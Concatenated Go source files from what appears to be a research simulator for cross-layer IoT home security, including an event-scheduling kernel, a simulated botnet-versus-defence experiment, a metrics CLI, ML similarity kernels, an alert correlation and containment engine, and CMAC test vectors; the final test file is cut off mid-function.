// one long-lived fn and threads the payload through arg. With the pooled
// event slab the whole schedule→dispatch→recycle cycle allocates nothing
// in steady state (the slab itself grows amortized to peak backlog).
//
//xlf:hotpath
func (k *Kernel) ScheduleArg(delay time.Duration, name string, fn func(any), arg any) Handle {
	if fn == nil {
		panic("sim: ScheduleArg called with nil fn")
	}
	if delay < 0 {
		delay = 0
	}
	at := k.now + delay
	k.seq++
	s := k.alloc()
	e := &k.slots[s]
	e.at, e.name, e.fnArg, e.arg, e.seq = at, name, fn, arg, k.seq
	k.enqueue(s)
	k.pending++
	return Handle{k: k, slot: s, gen: e.gen}
}

// StopNow aborts the current Run after the in-flight event returns.
func (k *Kernel) StopNow() { k.stopped = true }

// Step executes the single earliest pending event, skipping canceled ones.
// It reports whether an event was executed. Same-timestamp events are
// drained from a presorted batch, so a burst of N simultaneous events
// costs one wheel access, not N heap operations.
//
// Step is shard-phase work: when ROADMAP item 2 shards the kernel, it
// runs inside one shard's window and must not touch another domain.
//
//xlf:hotpath
//xlf:phase(shard)
func (k *Kernel) Step() bool {
	for {
		if k.batchIdx >= len(k.batch) {
			if !k.prepare(^uint64(0)) {
				return false
			}
		}
		s := k.batch[k.batchIdx]
		k.batchIdx++
		e := &k.slots[s]
		if e.canceled {
			k.pending--
			k.recycle(s)
			continue
		}
		k.now = e.at
		k.ran++
		k.pending--
		fn, fnArg, arg, name := e.fn, e.fnArg, e.arg, e.name
		k.recycle(s)
		if k.tracer != nil {
			k.tracer.EmitAt(k.now, obs.LayerSim, "event", "", name)
		}
		if fnArg != nil {
			fnArg(arg)
		} else {
			fn()
		}
		return true
	}
}

// Run executes events in order until the queue is empty or simulated time
// would pass until. The clock is left at until if the horizon was reached
// with events still pending, or at the last executed event otherwise.
// Run returns ErrStopped if StopNow was called during an event.
//
//xlf:phase(shard)
func (k *Kernel) Run(until time.Duration) error {
	k.stopped = false
	if until < k.now {
		return nil
	}
	limit := uint64(until)
	for {
		if k.stopped {
			return ErrStopped
		}
		if !k.prepare(limit) {
			if k.now < until {
				k.now = until
			}
			return nil
		}
		s := k.batch[k.batchIdx]
		if k.slots[s].canceled {
			k.batchIdx++
			k.pending--
			k.recycle(s)
			continue
		}
		k.Step()
	}
}

// RunAll executes every pending event regardless of horizon. maxEvents
// bounds runaway self-rescheduling loops; it returns an error when the
// bound is hit. Like Run, it clears the effect of a previous StopNow
// before entering the loop.
//
//xlf:phase(shard)
func (k *Kernel) RunAll(maxEvents int) error {
	k.stopped = false
	for i := 0; ; i++ {
		if i >= maxEvents {
			return fmt.Errorf("sim: RunAll exceeded %d events at t=%s", maxEvents, k.now)
		}
		if k.stopped {
			return ErrStopped
		}
		if !k.Step() {
			return nil
		}
	}
}

// Every schedules fn to run now+interval, then repeatedly every interval,
// until the returned Ticker is stopped. Jitter, if positive, adds a uniform
// random offset in [0, jitter) to each firing so that periodic sources do
// not phase-lock artificially.
func (k *Kernel) Every(interval, jitter time.Duration, name string, fn func()) *Ticker {
	if interval <= 0 {
		panic("sim: Every requires a positive interval")
	}
	t := &Ticker{kernel: k, interval: interval, jitter: jitter, name: name, fn: fn}
	// One closure per ticker, built once: each firing re-arms with the
	// same function value, so a long-lived periodic source costs only
	// its pooled event per period.
	t.fire = func() {
		if t.stopped {
			return
		}
		t.fires++
		t.fn()
		if !t.stopped {
			t.arm()
		}
	}
	t.arm()
	return t
}

// Ticker is a repeating scheduled callback created by Kernel.Every.
type Ticker struct {
	kernel   *Kernel
	interval time.Duration
	jitter   time.Duration
	name     string
	fn       func()
	fire     func()
	pending  Handle
	stopped  bool
	fires    int
}

func (t *Ticker) arm() {
	d := t.interval
	if t.jitter > 0 {
		d += time.Duration(t.kernel.rng.Int63n(int64(t.jitter)))
	}
	t.pending = t.kernel.Schedule(d, t.name, t.fire)
}

// Stop cancels future firings. It is safe to call from inside the callback.
func (t *Ticker) Stop() {
	t.stopped = true
	t.pending.Cancel()
}

// Fires returns how many times the ticker's callback has run.
func (t *Ticker) Fires() int { return t.fires }
