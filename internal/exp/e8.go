package exp

import (
	"fmt"
	"time"

	"xlf"
	"xlf/internal/attack"
	"xlf/internal/metrics"
	"xlf/internal/netsim"
)

// runE8 runs the full Mirai-style campaign (recruitment -> beaconing ->
// DDoS) against the unprotected home and the XLF home, reporting time to
// detection, time to containment, C&C beacons escaped, and flood packets
// delivered to the victim — §III-B's "army" threat end to end.
//
// It is the E8 registry entry. The unprotected and protected homes are
// independent simulations of the same seed, so both run as sweep points.
func runE8(env *Env) *Result {
	r := &Result{ID: "E8", Title: "Botnet campaign: unprotected vs XLF (containment timeline)"}
	t := metrics.NewTable("", "Home", "Recruited", "DetectedAt", "ContainedAt", "BeaconsEscaped", "FloodPktsDelivered")

	homes := []bool{false, true}
	rows := Sweep(env, len(homes), func(i int, env *Env) e8Row {
		return e8Home(env, homes[i])
	})
	for i, protected := range homes {
		row := rows[i]
		name := "unprotected"
		if protected {
			name = "xlf"
		}
		t.AddRow(name, fmt.Sprint(row.recruited), row.detectedAt, row.containedAt,
			fmt.Sprint(row.beacons), fmt.Sprint(row.floodPkts))
		prefix := "base_"
		if protected {
			prefix = "xlf_"
		}
		r.num(prefix+"beacons", float64(row.beacons))
		r.num(prefix+"flood", float64(row.floodPkts))
		r.num(prefix+"recruited", float64(row.recruited))
	}
	r.Output = t.String() +
		"\nCampaign: recruitment at t=10s, DDoS at t=90s for 30s @100pps/bot.\n" +
		"XLF's NAC denies the C&C endpoint outright; correlation quarantines the bots.\n"
	return r
}

type e8Row struct {
	recruited   int
	detectedAt  string
	containedAt string
	beacons     int
	floodPkts   int
}

func e8Home(env *Env, protected bool) e8Row {
	sys, err := xlf.New(xlf.Options{
		Seed:              env.Seed,
		Flaws:             vulnerableFlaws(),
		DisableProtection: !protected,
		Tracer:            env.Tracer(),
	})
	if err != nil {
		panic(err)
	}
	aenv := sys.Home.AttackEnv()
	m := &attack.MiraiRecruit{CNC: "wan:cnc", BeaconEvery: 10 * time.Second}
	sys.Home.Kernel.Schedule(10*time.Second, "recruit", func() { m.Execute(aenv) })
	sys.Home.Kernel.Schedule(90*time.Second, "ddos", func() {
		(&attack.DDoSFlood{Victim: "wan:victim", Rate: 100, Duration: 30 * time.Second}).Execute(aenv)
	})
	if err := sys.Home.Run(4 * time.Minute); err != nil {
		panic(err)
	}

	row := e8Row{recruited: len(m.Recruited()), detectedAt: "-", containedAt: "-"}
	for _, rec := range sys.Home.WANCap.Records() {
		switch rec.Dst {
		case netsim.Addr("wan:cnc"):
			row.beacons++
		case netsim.Addr("wan:victim"):
			row.floodPkts++
		}
	}
	if protected {
		for _, a := range sys.Core.Alerts() {
			if row.detectedAt == "-" {
				row.detectedAt = a.Time.Truncate(time.Millisecond).String()
			}
			if a.Action != "" && row.containedAt == "-" {
				row.containedAt = a.Time.Truncate(time.Millisecond).String()
			}
		}
	}
	return row
}
