package analysis

import "testing"

func TestPairingFixture(t *testing.T) {
	checkFixture(t, "pairing", NewPairingAnalyzer(
		[]ReceiverPairSpec{
			{Acquire: "Lock", Release: "Unlock"},
			{Acquire: "RLock", Release: "RUnlock"},
		},
		[]ValuePairSpec{
			{
				Methods:    []string{"Start", "StartAt"},
				ResultType: "Region",
				Release:    []string{"End", "EndAt"},
				Noun:       "trace region",
			},
			{PkgPath: "time", Func: "NewTimer", Release: []string{"Stop"}, Noun: "timer"},
			{PkgPath: "time", Func: "NewTicker", Release: []string{"Stop"}, Noun: "ticker"},
		},
	))
}
