package main

// The `metrics` subcommand renders an xlf-metrics/v1 artifact (written by
// xlf-bench -telemetry or obs.WriteMetrics) as per-source rollup tables:
// counter totals with window rates, histogram quantiles, and the
// flight-recorder dump log. All times are simulation time.

import (
	"flag"
	"fmt"
	"io"
	"os"
	"strings"
	"time"

	"xlf/internal/obs"
)

func runMetrics(args []string, out io.Writer) int {
	fs := flag.NewFlagSet("xlf-trace metrics", flag.ContinueOnError)
	fs.SetOutput(os.Stderr)
	var (
		src     = fs.String("src", "", "only windows/dumps from this source label")
		windows = fs.Bool("windows", false, "render every window, not just the per-source rollup")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if fs.NArg() != 1 {
		fmt.Fprintln(os.Stderr, "xlf-trace metrics: exactly one metrics file expected (try -h)")
		return 2
	}
	f, err := os.Open(fs.Arg(0))
	if err != nil {
		fmt.Fprintln(os.Stderr, "xlf-trace:", err)
		return 1
	}
	defer f.Close()
	meta, recs, dumps, err := obs.ReadMetrics(f)
	if err != nil {
		fmt.Fprintln(os.Stderr, "xlf-trace:", err)
		return 1
	}

	totalW, totalD := len(recs), len(dumps)
	if *src != "" {
		recs = filterWindows(recs, *src)
		dumps = filterDumps(dumps, *src)
	}
	renderMetrics(out, meta, recs, dumps, totalW, totalD, *windows)
	return 0
}

// filterWindows keeps windows from one source label.
func filterWindows(recs []obs.WindowRecord, src string) []obs.WindowRecord {
	out := recs[:0:0]
	for _, r := range recs {
		if r.Src == src {
			out = append(out, r)
		}
	}
	return out
}

// filterDumps keeps dumps from one source label.
func filterDumps(dumps []obs.Dump, src string) []obs.Dump {
	out := dumps[:0:0]
	for _, d := range dumps {
		if d.Src == src {
			out = append(out, d)
		}
	}
	return out
}

func renderMetrics(out io.Writer, meta obs.MetricsMeta, recs []obs.WindowRecord, dumps []obs.Dump, totalW, totalD int, everyWindow bool) {
	fmt.Fprintf(out, "metrics %s  seed=%d clock=%s", meta.Schema, meta.Seed, meta.Clock)
	if meta.Source != "" {
		fmt.Fprintf(out, " source=%s", meta.Source)
	}
	fmt.Fprintf(out, "  interval=%s windows=%d dumps=%d", meta.Interval, totalW, totalD)
	if len(recs) != totalW || len(dumps) != totalD {
		fmt.Fprintf(out, " (selected %d/%d)", len(recs), len(dumps))
	}
	fmt.Fprintln(out)
	if meta.Evicted > 0 {
		fmt.Fprintf(out, "WARNING: %d windows were evicted from rollup rings; the record is incomplete\n", meta.Evicted)
	}
	if len(recs) == 0 && len(dumps) == 0 {
		fmt.Fprintln(out, "no windows")
		return
	}

	// Windows arrive grouped by source (the exp telemetry tree collects
	// depth-first), so one pass cuts the per-source sections.
	for start := 0; start < len(recs); {
		end := start + 1
		for end < len(recs) && recs[end].Src == recs[start].Src {
			end++
		}
		renderSource(out, recs[start:end], everyWindow)
		start = end
	}
	if len(dumps) > 0 {
		fmt.Fprintln(out)
		renderDumps(out, dumps)
	}
}

// renderSource prints one source's rollup: the sim-time span, each
// counter's total with min/max window rates, and each histogram's
// cumulative quantiles from the final window.
func renderSource(out io.Writer, recs []obs.WindowRecord, everyWindow bool) {
	first, last := recs[0], recs[len(recs)-1]
	name := first.Src
	if name == "" {
		name = "(run)"
	}
	fmt.Fprintf(out, "\n%s  %d windows  %s .. %s\n", name, len(recs), first.Start, last.End)

	type rateAgg struct {
		total    uint64
		min, max float64
		windows  int
	}
	counters := map[string]*rateAgg{}
	order := []string{}
	for _, r := range recs {
		for _, c := range r.Counters {
			a := counters[c.Name]
			if a == nil {
				a = &rateAgg{min: c.PerSec, max: c.PerSec}
				counters[c.Name] = a
				order = append(order, c.Name)
			}
			a.total = c.Total
			if c.PerSec < a.min {
				a.min = c.PerSec
			}
			if c.PerSec > a.max {
				a.max = c.PerSec
			}
			a.windows++
		}
	}
	if len(order) > 0 {
		fmt.Fprintf(out, "  %-28s %12s %14s %14s\n", "COUNTER", "TOTAL", "MIN-RATE/S", "MAX-RATE/S")
		for _, n := range order {
			a := counters[n]
			fmt.Fprintf(out, "  %-28s %12d %14.1f %14.1f\n", n, a.total, a.min, a.max)
		}
	}

	if len(last.Hists) > 0 {
		fmt.Fprintf(out, "  %-28s %12s %14s %14s %14s\n", "HISTOGRAM", "COUNT", "P50", "P95", "P99")
		for _, h := range last.Hists {
			fmt.Fprintf(out, "  %-28s %12d %14s %14s %14s\n",
				h.Name, h.Count, histVal(h.Name, h.CumP50), histVal(h.Name, h.CumP95), histVal(h.Name, h.CumP99))
		}
	}

	if everyWindow {
		fmt.Fprintf(out, "  %-6s %-14s %s\n", "W", "START", "ACTIVITY (counter deltas)")
		for _, r := range recs {
			parts := []string{}
			for _, c := range r.Counters {
				if c.Delta > 0 {
					parts = append(parts, fmt.Sprintf("%s+%d", c.Name, c.Delta))
				}
			}
			fmt.Fprintf(out, "  %-6d %-14s %s\n", r.Index, r.Start.String(), strings.Join(parts, " "))
		}
	}
}

// histVal renders a histogram quantile: names with the _ns suffix
// convention hold nanosecond observations and read as durations.
func histVal(name string, v uint64) string {
	if strings.HasSuffix(name, "_ns") || strings.Contains(name, "latency_ns") {
		return time.Duration(v).String()
	}
	return fmt.Sprintf("%d", v)
}

// renderDumps prints the flight-recorder log: one row per dump with its
// trigger reasons, debounce count and captured span window.
func renderDumps(out io.Writer, dumps []obs.Dump) {
	fmt.Fprintf(out, "flight recorder  %d dumps\n", len(dumps))
	fmt.Fprintf(out, "  %-14s %-12s %-24s %10s %6s\n", "TIME", "SRC", "REASONS", "SUPPRESSED", "SPANS")
	for _, d := range dumps {
		src := d.Src
		if src == "" {
			src = "-"
		}
		fmt.Fprintf(out, "  %-14s %-12s %-24s %10d %6d\n",
			d.Time.String(), src, strings.Join(d.Reasons, ","), d.Suppressed, len(d.Spans))
	}
}
