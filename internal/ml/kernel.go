// Package ml implements the two learning modules the paper places in the
// XLF Core (§IV-D): multi-kernel learning (MKL) to fuse features from
// heterogeneous layers, and graph-based community detection to group
// devices/homes with similar behaviour. Everything is stdlib-only and
// deterministic.
package ml

import (
	"errors"
	"fmt"
	"math"
)

// Sample is one observation: per-layer numeric features plus an event
// sequence for the spectrum kernel.
type Sample struct {
	// Device, Network, Service are per-layer feature vectors; layers that
	// contributed nothing are empty.
	Device  []float64
	Network []float64
	Service []float64
	// Events is the observed event-label sequence (spectrum kernel).
	Events []string
	// Label is +1 (malicious) or -1 (benign) for training samples.
	Label int
}

// Kernel computes a similarity between two samples.
type Kernel interface {
	// Name identifies the kernel in reports.
	Name() string
	// K returns the kernel value for a pair of samples.
	K(a, b Sample) float64
}

// view selects a layer's feature vector.
type view func(Sample) []float64

// RBFKernel is exp(-gamma * ||x-y||^2) over one layer's features. Empty
// vectors contribute neutral similarity 0.
type RBFKernel struct {
	Layer string
	Gamma float64
	sel   view
}

// NewRBFKernel builds an RBF kernel over "device", "network" or "service"
// features.
func NewRBFKernel(layer string, gamma float64) (*RBFKernel, error) {
	sel, err := selector(layer)
	if err != nil {
		return nil, err
	}
	if gamma <= 0 {
		return nil, fmt.Errorf("ml: gamma %v must be positive", gamma)
	}
	return &RBFKernel{Layer: layer, Gamma: gamma, sel: sel}, nil
}

func selector(layer string) (view, error) {
	switch layer {
	case "device":
		return func(s Sample) []float64 { return s.Device }, nil
	case "network":
		return func(s Sample) []float64 { return s.Network }, nil
	case "service":
		return func(s Sample) []float64 { return s.Service }, nil
	default:
		return nil, fmt.Errorf("ml: unknown layer %q", layer)
	}
}

// Name implements Kernel.
func (k *RBFKernel) Name() string { return "rbf:" + k.Layer }

// K implements Kernel.
func (k *RBFKernel) K(a, b Sample) float64 {
	x, y := k.sel(a), k.sel(b)
	if len(x) == 0 || len(y) == 0 || len(x) != len(y) {
		return 0
	}
	var d2 float64
	for i := range x {
		d := x[i] - y[i]
		d2 += d * d
	}
	return math.Exp(-k.Gamma * d2)
}

// LinearKernel is the dot product over one layer's features.
type LinearKernel struct {
	Layer string
	sel   view
}

// NewLinearKernel builds a linear kernel over a layer.
func NewLinearKernel(layer string) (*LinearKernel, error) {
	sel, err := selector(layer)
	if err != nil {
		return nil, err
	}
	return &LinearKernel{Layer: layer, sel: sel}, nil
}

// Name implements Kernel.
func (k *LinearKernel) Name() string { return "linear:" + k.Layer }

// K implements Kernel.
func (k *LinearKernel) K(a, b Sample) float64 {
	x, y := k.sel(a), k.sel(b)
	if len(x) != len(y) {
		return 0
	}
	var dot float64
	for i := range x {
		dot += x[i] * y[i]
	}
	return dot
}

// SpectrumKernel counts shared event p-grams, normalised; it is the
// standard string kernel for behavioural sequences (service-layer view).
type SpectrumKernel struct {
	P int
}

// NewSpectrumKernel builds a p-spectrum kernel (p >= 1).
func NewSpectrumKernel(p int) (*SpectrumKernel, error) {
	if p < 1 {
		return nil, errors.New("ml: spectrum p must be >= 1")
	}
	return &SpectrumKernel{P: p}, nil
}

// Name implements Kernel.
func (k *SpectrumKernel) Name() string { return fmt.Sprintf("spectrum:%d", k.P) }

func (k *SpectrumKernel) grams(events []string) map[string]int {
	out := make(map[string]int)
	for i := 0; i+k.P <= len(events); i++ {
		key := ""
		for j := 0; j < k.P; j++ {
			key += events[i+j] + "\x00"
		}
		out[key]++
	}
	return out
}

// K implements Kernel: normalised p-gram intersection.
func (k *SpectrumKernel) K(a, b Sample) float64 {
	ga, gb := k.grams(a.Events), k.grams(b.Events)
	if len(ga) == 0 || len(gb) == 0 {
		return 0
	}
	var dot, na, nb float64
	for g, ca := range ga {
		na += float64(ca * ca)
		if cb, ok := gb[g]; ok {
			dot += float64(ca * cb)
		}
	}
	for _, cb := range gb {
		nb += float64(cb * cb)
	}
	return dot / math.Sqrt(na*nb)
}
