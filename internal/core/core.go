// Package core implements the XLF Core (§IV-D): the hub that connects the
// device, network and service layers. It ingests per-layer signals,
// correlates them per entity inside a sliding window (multi-layer
// corroboration raises confidence — the paper's central claim), raises
// alerts with full provenance, and drives containment (NAC blocks, app
// removal, device quarantine) and the correlation-driven authentication
// token lifetime policy.
package core

import (
	"fmt"
	"sort"
	"strings"
	"time"

	"xlf/internal/obs"
)

// LayerName identifies the producing layer of a signal.
type LayerName string

// XLF layers.
const (
	Device  LayerName = "device"
	Network LayerName = "network"
	Service LayerName = "service"
)

// Signal is one observation handed to the Core by a layer function.
type Signal struct {
	Time     time.Duration
	Layer    LayerName
	Source   string // detector/function name ("ids:scan", "behavior:dfa", ...)
	DeviceID string // affected entity; "" when unattributed
	Kind     string // normalized kind ("scan", "illegal-transition", ...)
	Score    float64
	Detail   string
}

// Severity grades alerts.
type Severity int

// Alert severities.
const (
	SevInfo Severity = iota + 1
	SevWarning
	SevCritical
)

func (s Severity) String() string {
	switch s {
	case SevInfo:
		return "info"
	case SevWarning:
		return "warning"
	case SevCritical:
		return "critical"
	default:
		return fmt.Sprintf("Severity(%d)", int(s))
	}
}

// Alert is a correlated detection with provenance.
type Alert struct {
	Time       time.Duration
	DeviceID   string
	Severity   Severity
	Confidence float64
	// Layers lists the distinct layers contributing evidence.
	Layers []LayerName
	// Evidence carries the correlated signals.
	Evidence []Signal
	// Action records the containment the Core took ("", "blocked",
	// "quarantined", "app-removed").
	Action string
}

func (a Alert) String() string {
	ls := make([]string, len(a.Layers))
	for i, l := range a.Layers {
		ls[i] = string(l)
	}
	return fmt.Sprintf("[%s] %s conf=%.2f sev=%s layers=%s action=%q (%d signals)",
		a.Time, a.DeviceID, a.Confidence, a.Severity, strings.Join(ls, "+"), a.Action, len(a.Evidence))
}

// Containment is the set of enforcement hooks the Core can pull. Each hook
// is optional; the testbed installs the real ones.
type Containment struct {
	// BlockDevice cuts a device's WAN access (gateway NAC).
	BlockDevice func(deviceID string)
	// QuarantineDevice isolates a device entirely.
	QuarantineDevice func(deviceID string)
	// RemoveApp uninstalls a service-layer application.
	RemoveApp func(appID string)
	// RevokeTokens evicts cached auth tokens tied to a device's users.
	RevokeTokens func(deviceID string)
}

// Config tunes the correlation engine.
type Config struct {
	// Window is the correlation window (signals older than Window before
	// the newest signal for an entity are not corroborating evidence).
	Window time.Duration
	// AlertThreshold is the minimum confidence to raise an alert.
	AlertThreshold float64
	// ContainThreshold is the minimum confidence to act.
	ContainThreshold float64
	// LayerBonus is the confidence multiplier per extra corroborating
	// layer (the cross-layer dividend; ablated in E1).
	LayerBonus float64
	// EnabledLayers restricts which layers' signals are considered; empty
	// means all. Used by the single-layer ablations.
	EnabledLayers []LayerName
	// Cooldown suppresses duplicate alerts per device.
	Cooldown time.Duration
	// Deployment records where this Core instance runs ("gateway" or
	// "cloud"); informational, surfaced in Figure 4.
	Deployment string
}

// DefaultConfig returns the standard gateway deployment tuning.
func DefaultConfig() Config {
	return Config{
		Window:           2 * time.Minute,
		AlertThreshold:   0.6,
		ContainThreshold: 0.85,
		LayerBonus:       0.25,
		Cooldown:         time.Minute,
		Deployment:       "gateway",
	}
}

// Core is the cross-layer correlation engine.
type Core struct {
	cfg     Config
	contain Containment

	signals   map[string][]Signal // per device
	global    []Signal            // unattributed
	alerts    []Alert
	lastA     map[string]time.Duration
	contained map[string]bool

	// OnAlert, when set, observes every raised alert.
	OnAlert func(Alert)

	// Tracer, when set, receives core-layer spans for every ingest,
	// alert and containment decision. Nil (the default) disables tracing
	// at the cost of one branch per hot-path operation.
	Tracer *obs.Tracer

	// Detections, when set, is notified of every raised alert so
	// injected attacks can be matched to their first detection (the
	// telemetry pipeline's latency SLO). Nil disables at one branch.
	Detections *obs.DetectionTracker

	// Recorder, when set, receives an alert trigger for every raised
	// alert, arming the anomaly flight recorder's next flush. Nil
	// disables at one branch.
	Recorder *obs.FlightRecorder

	reg        *obs.Registry
	cIngested  *obs.Counter
	cDropped   *obs.Counter
	cAlerts    *obs.Counter
	cContained *obs.Counter
}

// New creates a Core.
func New(cfg Config, contain Containment) *Core {
	if cfg.Window <= 0 {
		cfg.Window = DefaultConfig().Window
	}
	if cfg.AlertThreshold <= 0 {
		cfg.AlertThreshold = DefaultConfig().AlertThreshold
	}
	if cfg.ContainThreshold <= 0 {
		cfg.ContainThreshold = DefaultConfig().ContainThreshold
	}
	if cfg.Cooldown <= 0 {
		cfg.Cooldown = DefaultConfig().Cooldown
	}
	reg := obs.NewRegistry()
	return &Core{
		cfg:        cfg,
		contain:    contain,
		signals:    make(map[string][]Signal),
		lastA:      make(map[string]time.Duration),
		contained:  make(map[string]bool),
		reg:        reg,
		cIngested:  reg.Counter("core.ingested"),
		cDropped:   reg.Counter("core.dropped"),
		cAlerts:    reg.Counter("core.alerts"),
		cContained: reg.Counter("core.contained"),
	}
}

// Config returns the active configuration.
func (c *Core) Config() Config { return c.cfg }

// CoreStats is a snapshot of the Core's lifetime counters, read from the
// obs metrics registry backing them.
type CoreStats struct {
	// Ingested counts signals accepted into the correlation window.
	Ingested uint64
	// Dropped counts signals filtered out by the layer ablation.
	Dropped uint64
	// Alerts counts alerts raised.
	Alerts uint64
	// Contained counts alerts that executed a containment action.
	Contained uint64
}

// Stats returns the Core's lifetime counters.
func (c *Core) Stats() CoreStats {
	return CoreStats{
		Ingested:  c.cIngested.Value(),
		Dropped:   c.cDropped.Value(),
		Alerts:    c.cAlerts.Value(),
		Contained: c.cContained.Value(),
	}
}

// Metrics exposes the runtime metrics registry backing the Core's
// counters, for snapshotting alongside trace exports.
func (c *Core) Metrics() *obs.Registry { return c.reg }

// layerEnabled applies the ablation filter.
func (c *Core) layerEnabled(l LayerName) bool {
	if len(c.cfg.EnabledLayers) == 0 {
		return true
	}
	for _, e := range c.cfg.EnabledLayers {
		if e == l {
			return true
		}
	}
	return false
}

// Ingest feeds one signal into the correlation engine, returning the alert
// it raised, if any. This is the per-signal hot path: the disabled-layer
// and no-tracer branches must stay allocation-free. The two history
// appends are amortised-O(1) against window-bounded slices and are the
// one reviewed exception (waived in vet-baseline.json).
//
//xlf:hotpath
func (c *Core) Ingest(sig Signal) *Alert {
	if !c.layerEnabled(sig.Layer) {
		c.cDropped.Inc()
		if c.Tracer != nil {
			c.Tracer.EmitSpan(obs.Span{
				Time: sig.Time, Layer: obs.LayerCore, Op: "filter",
				Device: sig.DeviceID, Cause: sig.Kind, Detail: sig.Source,
			})
		}
		return nil
	}
	c.cIngested.Inc()
	if c.Tracer != nil {
		c.Tracer.EmitSpan(obs.Span{
			Time: sig.Time, Layer: obs.LayerCore, Op: "ingest",
			Device: sig.DeviceID, Cause: sig.Kind, Detail: sig.Source,
		})
	}
	if sig.DeviceID == "" {
		c.global = append(c.global, sig)
		return nil
	}
	hist := append(c.signals[sig.DeviceID], sig)
	// Evict signals outside the window.
	cut := 0
	for cut < len(hist) && hist[cut].Time < sig.Time-c.cfg.Window {
		cut++
	}
	hist = hist[cut:]
	// Bound per-device history: a detector misfiring at line rate (or an
	// adversary flooding a sensor) must not make the Core itself O(n^2).
	// The newest signals carry the evidence that matters.
	const maxHist = 2048
	if len(hist) > maxHist {
		hist = hist[len(hist)-maxHist:]
	}
	c.signals[sig.DeviceID] = hist

	return c.evaluate(sig.DeviceID, sig.Time)
}

// evaluate computes correlated confidence for a device and raises an alert
// when warranted.
func (c *Core) evaluate(deviceID string, now time.Duration) *Alert {
	hist := c.signals[deviceID]
	if len(hist) == 0 {
		return nil
	}
	layerSet := make(map[LayerName]struct{})
	var maxScore float64
	for _, s := range hist {
		layerSet[s.Layer] = struct{}{}
		if s.Score > maxScore {
			maxScore = s.Score
		}
	}
	conf := maxScore * (1 + c.cfg.LayerBonus*float64(len(layerSet)-1))
	if conf > 1 {
		conf = 1
	}
	if conf < c.cfg.AlertThreshold {
		return nil
	}
	// Cooldown suppresses repeats — but never the first escalation to
	// containment level on a device whose prior alerts stayed below it.
	escalation := conf >= c.cfg.ContainThreshold && !c.contained[deviceID]
	if last, ok := c.lastA[deviceID]; ok && now-last < c.cfg.Cooldown && !escalation {
		return nil
	}
	c.lastA[deviceID] = now

	layers := make([]LayerName, 0, len(layerSet))
	for l := range layerSet {
		layers = append(layers, l)
	}
	sort.Slice(layers, func(i, j int) bool { return layers[i] < layers[j] })

	sev := SevWarning
	if conf >= c.cfg.ContainThreshold {
		sev = SevCritical
	}
	a := Alert{
		Time:       now,
		DeviceID:   deviceID,
		Severity:   sev,
		Confidence: conf,
		Layers:     layers,
		Evidence:   append([]Signal(nil), hist...),
	}

	if conf >= c.cfg.ContainThreshold {
		a.Action = c.containDevice(deviceID, hist)
		// Whether or not an enforcement hook was installed, containment
		// has been attempted: later repeats fall back under the cooldown.
		c.contained[deviceID] = true
		if a.Action != "" {
			c.cContained.Inc()
			if c.Tracer != nil {
				c.Tracer.EmitSpan(obs.Span{
					Time: now, Layer: obs.LayerCore, Op: "contain",
					Device: deviceID, Cause: a.Action,
				})
			}
		}
	}
	c.cAlerts.Inc()
	c.Detections.Observe(now, deviceID)
	c.Recorder.Trigger(now, obs.TriggerAlert)
	if c.Tracer != nil {
		c.Tracer.EmitSpan(obs.Span{
			Time: now, Layer: obs.LayerCore, Op: "alert",
			Device: deviceID, Cause: a.Severity.String(),
			Detail: fmt.Sprintf("conf=%.2f layers=%d", conf, len(layers)),
		})
	}
	c.alerts = append(c.alerts, a)
	if c.OnAlert != nil {
		c.OnAlert(a)
	}
	return &c.alerts[len(c.alerts)-1]
}

// containDevice picks and executes a containment action based on the
// evidence mix.
func (c *Core) containDevice(deviceID string, evidence []Signal) string {
	// Rogue-app evidence points at the service layer first.
	for _, s := range evidence {
		if strings.HasPrefix(s.Kind, "rogue-app:") && c.contain.RemoveApp != nil {
			c.contain.RemoveApp(strings.TrimPrefix(s.Kind, "rogue-app:"))
			return "app-removed"
		}
	}
	// Active malware (loader/beacon/flood) warrants quarantine.
	for _, s := range evidence {
		switch s.Kind {
		case "dpi:mirai-loader", "cc-beacon", "ddos-flood", "firmware-tamper":
			if c.contain.QuarantineDevice != nil {
				c.contain.QuarantineDevice(deviceID)
				if c.contain.RevokeTokens != nil {
					c.contain.RevokeTokens(deviceID)
				}
				return "quarantined"
			}
		}
	}
	if c.contain.BlockDevice != nil {
		c.contain.BlockDevice(deviceID)
		return "blocked"
	}
	return ""
}

// Alerts returns all raised alerts (a copy).
func (c *Core) Alerts() []Alert { return append([]Alert(nil), c.alerts...) }

// AlertsFor returns a device's alerts.
func (c *Core) AlertsFor(deviceID string) []Alert {
	var out []Alert
	for _, a := range c.alerts {
		if a.DeviceID == deviceID {
			out = append(out, a)
		}
	}
	return out
}

// FlaggedDevices lists devices with at least one alert, sorted.
func (c *Core) FlaggedDevices() []string {
	set := make(map[string]struct{})
	for _, a := range c.alerts {
		set[a.DeviceID] = struct{}{}
	}
	out := make([]string, 0, len(set))
	for d := range set {
		out = append(out, d)
	}
	sort.Strings(out)
	return out
}

// TokenLifetimeFor implements the §IV-A1 correlation-driven token policy:
// devices with recent alerts get sharply shorter token lifetimes.
func (c *Core) TokenLifetimeFor(deviceID string, base time.Duration, now time.Duration) time.Duration {
	recent := 0
	for _, a := range c.AlertsFor(deviceID) {
		if now-a.Time <= c.cfg.Window*5 {
			recent++
		}
	}
	switch {
	case recent == 0:
		return base
	case recent == 1:
		return base / 4
	default:
		return base / 16
	}
}
