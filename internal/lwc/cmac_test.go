package lwc

import (
	"bytes"
	"crypto/aes"
	"testing"
	"testing/quick"
)

// TestCMACAESVectors checks against the NIST SP 800-38B AES-128 examples.
func TestCMACAESVectors(t *testing.T) {
	key := mustHex(t, "2b7e151628aed2a6abf7158809cf4f3c")
	blk, err := aes.NewCipher(key)
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		msg, want string
	}{
		{"", "bb1d6929e95937287fa37d129b756746"},
		{"6bc1bee22e409f96e93d7e117393172a", "070a16b46b4d4144f79bdd9dd04a287c"},
		{
			"6bc1bee22e409f96e93d7e117393172aae2d8a571e03ac9c9eb76fac45af8e5130c81c46a35ce411",
			"dfa66747de9ae63030ca32611497c827",
		},
		{
			"6bc1bee22e409f96e93d7e117393172aae2d8a571e03ac9c9eb76fac45af8e5130c81c46a35ce411e5fbc1191a0a52eff69f2445df4f9b17ad2b417be66c3710",
			"51f0bebf7e3b9d92fc49741779363cfe",
		},
	}
	for i, tc := range cases {
		mac, err := NewCMAC(blk)
		if err != nil {
			t.Fatal(err)
		}
		mac.Write(mustHex(t, tc.msg))
		got := mac.Sum(nil)
		if !bytes.Equal(got, mustHex(t, tc.want)) {
